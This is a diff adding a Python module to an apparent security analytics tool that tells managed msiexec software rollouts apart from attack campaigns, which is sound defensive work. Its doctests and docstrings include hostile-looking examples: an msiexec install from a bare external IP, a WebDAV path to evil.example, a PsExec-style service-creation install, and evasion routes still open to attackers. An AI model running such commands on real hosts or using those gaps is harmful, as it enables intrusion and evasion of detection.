@@ -1,0 +1,285 @@
+"""Managed software deployments: Windows Installer run by a service from a package on disk or a share (task ROLLOUT).
+
+A new vendor agent rolled out to half the fleet in the morning is new, synchronised (the
+deployment job's schedule), on endpoint and network evidence at once, and checks in every 30
+minutes: it looked like a campaign to every scored feature (rank 5 of ``evaluate_fleet`` with the
+heartbeat scenarios, 0.1–1.5 under the lowest attack).  What a SOC engineer tells it apart by is
+how it got there: ``msiexec.exe /i \\\\deploy.corp.example\\packages\\Agent.msi`` started by a
+service running as SYSTEM (a deployment agent, the Service Control Manager), not by a user's
+shell, a script host or a remote execution channel, and the new program runs from
+``Program Files`` as a service.
+
+What counts, and what an attacker would have to forge:
+
+- an **installer** (:func:`is_managed_installer`): the Windows Installer (``msiexec.exe``, image
+  in ``System32``/``SysWOW64``: a renamed copy is elsewhere) installing or patching a package
+  (``/i``, ``/package``, ``/p``, ``/update``) from a local path or a UNC share, never a URL
+  (``http://``, WebDAV's ``\\\\host@SSL\\``), a share on an external address, a user's profile
+  or a temporary folder; started only by :data:`MANAGEMENT_PARENTS` (every ``SPAWNED`` parent);
+  not the command of a service, scheduled task or WMI consumer a host installed (``host INSTALLED
+  process``: a PsExec-style ``sc create … binPath= "msiexec /i …"`` makes services.exe its parent
+  too, with a 7045/4697 on every host); and not said to be unsigned or invalid by the telemetry
+  (ECS ``code_signature``: ``signed``, ``signature_status``).  A script host, Office, WMI
+  (``WmiPrvSE.exe``) or the Task Scheduler (``svchost.exe``, ``taskhostw.exe``) starting it is no
+  deployment: those are the channels an attacker has without the deployment system;
+- a **deployed program** (:func:`is_deployed_program`): a process whose image is under ``Program
+  Files`` (or ``Program Files (x86)``) of a drive, no script host or living-off-the-land binary
+  (:data:`analytics.lineage.INTERPRETERS`, by its original name), started only by the management
+  parents or by an installer, and not said unsigned or invalid.
+
+A cluster is a managed deployment (:func:`is_managed_deployment`) when its new members include an
+installer, every new process member is an installer or a deployed program, no new script is
+among them, and no attack behaviour or interpreter lineage was found.  It is then software the
+organisation installed (:mod:`analytics.features`): its first contacts are the deployment job's
+schedule (the benign spread and burst, as one person's logon takes), its check-ins with its
+vendor are the product working (the repeat floor: the old agent's heartbeat makes no cluster at
+all), its processes are no endpoint evidence (its new external destination still counts), and a
+"download" that rests only on its own builds is the install.  Measured with the heartbeat
+scenarios (docs/analytics.md): the rollout went from rank 5 (0.1–1.5 under the lowest attack) out of
+the top 10.  What is left to an attacker: going through the deployment system itself, or
+reconfiguring an existing service's binary to ``msiexec /i`` a local package on every host (admin on
+each, no 7045); the check names the share and the service to confirm.
+"""
+
+from __future__ import annotations
+
+import ipaddress
+import re
+from collections import defaultdict
+from collections.abc import Iterable, Mapping
+from dataclasses import dataclass, field
+
+from analytics.build_signers import VALID_STATUSES
+from analytics.external_addresses import is_external_ip
+from analytics.lineage import INTERPRETERS, image_file_name, image_name
+from graphsiem.model import Entity, EntityKey, EntityType, Relation
+
+__all__ = [
+    "MANAGEMENT_PARENTS", "ManagedInstalls", "builds_explain_download", "is_deployed_program", "is_managed_deployment",
+    "is_managed_installer", "managed_installs", "package_of",
+]
+
+INSTALLERS = frozenset({"msiexec.exe"})
+"""Installer images a deployment runs (by their name and original name)."""
+MANAGEMENT_PARENTS = frozenset({"services.exe"})
+"""Parents of a managed install: the Service Control Manager, which starts deployment agents and
+the simulator's SYSTEM processes.  Left out on purpose: script hosts, shells, Office, ``explorer.exe``
+(a user), ``WmiPrvSE.exe`` (remote WMI execution), ``svchost.exe`` and ``taskhostw.exe`` (the Task
+Scheduler): an attacker reaches all of them without the deployment system."""
+_INSTALLER_HOMES = ("\\windows\\system32\\", "\\windows\\syswow64\\")
+_PROGRAM_FILES = re.compile(r"(?i)^(?:\\\\\?\\)?[a-z]:\\program files(?: \(x86\))?\\[^\\]+\\")
+_PACKAGE = re.compile(r'(?i)(?:^|\s)[/-](?:i|package|p|update)(?:\s+|(?="))("[^"]*"|\S+)')
+_URL = re.compile(r"(?i)^[a-z][a-z0-9+.-]*://")
+_WEBDAV = re.compile(r"(?i)^\\\\[^\\]+@(?:ssl|\d+)|\\davwwwroot\\")
+_UNTRUSTED_FOLDERS = ("\\users\\", "\\temp\\", "\\appdata\\", "\\windows\\tasks\\", "\\perflogs\\")
+
+
+def package_of(command_line: str) -> str | None:
+    """The package an ``msiexec`` command line installs or patches, unquoted, or None.
+
+    Examples
+    --------
+    >>> package_of(r'msiexec.exe /i \\\\deploy.corp.example\\packages\\Agent.msi /qn')
+    '\\\\\\\\deploy.corp.example\\\\packages\\\\Agent.msi'
+    >>> package_of('msiexec /i "C:\\\\ProgramData\\\\Deploy\\\\a b.msi" /qn')
+    'C:\\\\ProgramData\\\\Deploy\\\\a b.msi'
+    >>> package_of("msiexec /q /i http://203.0.113.7/x.msi"), package_of("msiexec /x {GUID} /qn")
+    ('http://203.0.113.7/x.msi', None)
+    """
+    found = _PACKAGE.search(command_line)
+    if found is None:
+        return None
+    return found.group(1).strip('"') or None
+
+
+def is_trusted_package(package: str) -> bool:
+    """A package on a local disk or an internal share, outside users' and temporary folders.
+
+    Examples
+    --------
+    >>> [is_trusted_package(p) for p in (r"\\\\deploy.corp.example\\pkgs\\a.msi", r"C:\\ProgramData\\Deploy\\a.msi")]
+    [True, True]
+    >>> [is_trusted_package(p) for p in ("https://cdn.example/a.msi", r"\\\\evil.example@SSL\\a.msi",
+    ...                                  r"\\\\203.0.113.7\\s\\a.msi", r"C:\\Users\\Public\\a.msi")]
+    [False, False, False, False]
+    """
+    text = package.replace("/", "\\")
+    lowered = text.lower()
+    if _URL.match(package) or _WEBDAV.search(lowered) or any(f in lowered for f in _UNTRUSTED_FOLDERS):
+        return False
+    if lowered.startswith("\\\\"):
+        server = lowered[2:].split("\\", 1)[0]
+        try:
+            ipaddress.ip_address(server.strip("[]"))
+        except ValueError:
+            return bool(server) and server not in (".", "?")
+        return not is_external_ip(server.strip("[]"))
+    return re.match(r"(?i)^[a-z]:\\", text) is not None
+
+
+def _said_unsigned(props: Mapping[str, object]) -> bool:
+    """The telemetry said the image is unsigned or its signature invalid (ECS ``code_signature``)."""
+    if props.get("signed") is False:
+        return True
+    status = props.get("signature_status")
+    return isinstance(status, str) and bool(status) and status.lower() not in VALID_STATUSES
+
+
+def _image_path(entity: Entity) -> str:
+    image = entity.props.get("image") or entity.props.get("path") or ""
+    return str(image).replace("/", "\\").lower()
+
+
+def is_managed_installer(entity: Entity, parent_images: Iterable[str], *, installed: bool) -> bool:
+    """Whether a process is the Windows Installer run by a management parent from a trusted package.
+
+    Parameters
+    ----------
+    entity : Entity
+        The process (``command_line``, ``image`` props).
+    parent_images : iterable of str
+        Image names of every process that spawned it (none known: not managed).
+    installed : bool
+        A host installed its command as a service, scheduled task or WMI consumer.
+    """
+    parents = set(parent_images)
+    if installed or not parents or not parents <= MANAGEMENT_PARENTS:
+        return False
+    if image_name(entity.value, entity.props) not in INSTALLERS or _said_unsigned(entity.props):
+        return False
+    path = _image_path(entity)
+    if not path.endswith(tuple(home + image_file_name(entity.value, entity.props) for home in _INSTALLER_HOMES)):
+        return False
+    package = package_of(str(entity.props.get("command_line") or entity.value))
+    return package is not None and is_trusted_package(package)
+
+
+def is_deployed_program(entity: Entity, parent_images: Iterable[str], *, by_installer: bool) -> bool:
+    """Whether a process is a program installed under Program Files, run by a service or an installer.
+
+    Parameters
+    ----------
+    entity : Entity
+    parent_images : iterable of str
+        Image names of every process that spawned it (none known: not deployed).
+    by_installer : bool
+        Every parent that is no management parent is a managed installer.
+    """
+    parents = set(parent_images)
+    if not parents or not (parents <= MANAGEMENT_PARENTS or by_installer):
+        return False
+    if image_name(entity.value, entity.props) in INTERPRETERS | INSTALLERS or _said_unsigned(entity.props):
+        return False
+    return _PROGRAM_FILES.match(_image_path(entity)) is not None
+
+
+@dataclass(frozen=True, slots=True)
+class ManagedInstalls:
+    """The fleet's managed installers and the programs deployed with them (:func:`managed_installs`)."""
+
+    installers: frozenset[EntityKey] = frozenset()
+    programs: frozenset[EntityKey] = frozenset()
+    packages: Mapping[EntityKey, str] = field(default_factory=dict)
+    """Installer -> the package it installed (for the check's words)."""
+
+
+def managed_installs(
+    processes: Mapping[EntityKey, Entity],
+    spawned: Iterable[Relation],
+    images: Mapping[EntityKey, str],
+    installed_runs: Iterable[EntityKey] = (),
+) -> ManagedInstalls:
+    """Find the managed installers and deployed programs among ``processes``.
+
+    Parameters
+    ----------
+    processes : mapping
+        Process entities by key.
+    spawned : iterable of Relation
+        ``process SPAWNED process`` relations (a backtest's: first seen by its end).
+    images : mapping
+        Image name of each process key (:func:`analytics.lineage.image_name`).
+    installed_runs : iterable of EntityKey
+        Processes a host installed as a service, task or WMI consumer (``host INSTALLED process``).
+
+    Returns
+    -------
+    ManagedInstalls
+    """
+    parents: dict[EntityKey, set[EntityKey]] = defaultdict(set)
+    for rel in spawned:
+        parents[rel.dst].add(rel.src)
+    installed = frozenset(installed_runs)
+    installers: dict[EntityKey, str] = {}
+    for key, entity in processes.items():
+        if images.get(key) in INSTALLERS and is_managed_installer(
+            entity, (images.get(p, "?") for p in parents.get(key, ())), installed=key in installed
+        ):
+            installers[key] = package_of(str(entity.props.get("command_line") or entity.value)) or ""
+    programs = set()
+    for key, entity in processes.items():
+        mine = parents.get(key, set())
+        others = {p for p in mine if images.get(p, "?") not in MANAGEMENT_PARENTS}
+        if is_deployed_program(entity, (images.get(p, "?") for p in mine), by_installer=others <= installers.keys()):
+            programs.add(key)
+    return ManagedInstalls(frozenset(installers), frozenset(programs), installers)
+
+
+def builds_explain_download(behaviours: Iterable[str], new_members: Iterable[EntityKey], builds: Iterable[EntityKey]) -> bool:
+    """Whether ``download_from_new_domain`` rests only on the cluster's own program builds.
+
+    Each build a process ran is a file (projection 15), so a new program whose cluster holds a new
+    domain reads as "a new domain, a new file, something new executed" without any fetch.  When no
+    new URL is a member and every new file is a build nothing else brought (no write, download,
+    install or detection: :func:`analytics.image_builds.image_builds`), the download is the
+    installed program itself, which a managed deployment explains.
+
+    Examples
+    --------
+    >>> new = [("domain", "d"), ("process", "p"), ("file", "build")]
+    >>> builds_explain_download({"download_from_new_domain"}, new, {("file", "build")})
+    True
+    >>> builds_explain_download({"download_from_new_domain"}, [*new, ("url", "http://d/x.png")], {("file", "build")})
+    False
+    >>> builds_explain_download({"download_from_new_domain"}, [*new, ("file", "x.png")], {("file", "build")})
+    False
+    """
+    if "download_from_new_domain" not in set(behaviours):
+        return False
+    built = set(builds)
+    return all(kind != EntityType.URL and (kind != EntityType.FILE or (kind, key) in built) for kind, key in new_members)
+
+
+def is_managed_deployment(
+    managed: ManagedInstalls, new_members: Iterable[EntityKey], *, behaviours: Iterable[str], interpreters: int
+) -> bool:
+    """Whether a cluster's new members are a managed deployment: an installer, and only deployed programs.
+
+    Parameters
+    ----------
+    managed : ManagedInstalls
+    new_members : iterable of EntityKey
+        The cluster's new members.
+    behaviours : iterable of str
+        The attack behaviours found on it (any: not a deployment).
+    interpreters : int
+        Its new pairs whose child is a script host or living-off-the-land binary (any: not one).
+
+    Examples
+    --------
+    >>> m = ManagedInstalls(frozenset({("process", "msi")}), frozenset({("process", "agent")}))
+    >>> is_managed_deployment(m, [("domain", "d"), ("process", "msi"), ("process", "agent")], behaviours=(), interpreters=0)
+    True
+    >>> is_managed_deployment(m, [("process", "msi"), ("process", "x")], behaviours=(), interpreters=0)
+    False
+    >>> is_managed_deployment(m, [("process", "agent")], behaviours=(), interpreters=0)
+    False
+    """
+    if interpreters or any(True for _ in behaviours):
+        return False
+    processes = [key for key in new_members if key[0] in (EntityType.PROCESS, EntityType.SCRIPT)]
+    if any(key[0] == EntityType.SCRIPT for key in processes):
+        return False
+    if not any(key in managed.installers for key in processes):
+        return False
+    return all(key in managed.installers or key in managed.programs for key in processes)
